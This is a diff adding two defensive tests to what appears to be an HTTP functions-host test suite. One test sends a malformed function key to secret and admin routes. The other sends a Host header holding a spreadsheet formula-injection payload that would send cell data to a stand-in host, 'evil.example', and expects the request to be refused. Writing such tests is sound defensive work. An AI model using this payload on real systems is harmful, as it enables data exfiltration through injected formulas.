@@ -61,6 +61,18 @@ def test_what_leads_nowhere(sample: Sample, method: str, path: str, status: int)
     assert sample.host.call(method, path).status == status
 
 
+def test_a_host_that_is_none(sample: Sample) -> None:
+    """Is refused before any function sees it."""
+    assert sample.host.call("GET", "/api/echo/", headers={"Host": '=x("http://evil.example/?x="&A1)'}).status == 400
+
+
+def test_a_key_that_is_no_text(sample: Sample) -> None:
+    """Opens nothing, and breaks nothing."""
+    for path in ("/api/secret", "/admin/functions"):
+        reply = sample.host.call("GET", path, headers={"x-functions-key": "\xff\xfe"}, key=None)
+        assert reply.status == 401
+
+
 def test_a_wrong_method_is_explained_in_the_log(sample: Sample) -> None:
     """404 alone would send people looking for the route."""
     sample.host.call("PATCH", "/api/jobs/x")
